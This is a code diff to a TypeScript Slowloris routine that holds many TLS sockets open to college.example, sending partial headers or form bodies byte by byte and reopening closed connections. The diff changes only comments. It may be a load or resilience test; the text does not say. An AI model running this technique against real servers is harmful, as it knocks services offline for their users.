@@ -5,17 +5,17 @@ import { addresses } from './network.ts'
 const dripMilliseconds = 3_000
 const head = 'Host: college.example\r\n'
 
-/** How they begin: in the middle of the headers, in the middle of a form, or with nothing. */
+/** In the headers, in a form, or before anything. */
 const beginnings = [
   `GET / HTTP/1.1\r\n${head}X-Slow: `,
   `POST /api/contact HTTP/1.1\r\n${head}Content-Type: application/json\r\nContent-Length: 900\r\n\r\n{`,
   '',
 ]
 
-/** One for all: making it takes longer than a handshake. */
+/** Shared, since creating it takes longer than a handshake. */
 const secureContext = createSecureContext()
 
-/** Holds so many sockets of one address open, and sends a byte on each now and then; what is closed is opened anew. */
+/** Slowloris: sends a byte on each now and then, and reopens what is closed. */
 function openSlowSockets(count: number) {
   const open = new Set<TLSSocket>()
   let most = 0
@@ -34,7 +34,7 @@ function openSlowSockets(count: number) {
       most = Math.max(most, open.size)
       if (beginning) socket.write(beginning)
     })
-    // That the other side has enough of it is what is waited for.
+    // Being cut off is the expected outcome.
     socket.on('error', () => undefined)
     socket.on('close', () => {
       open.delete(socket)
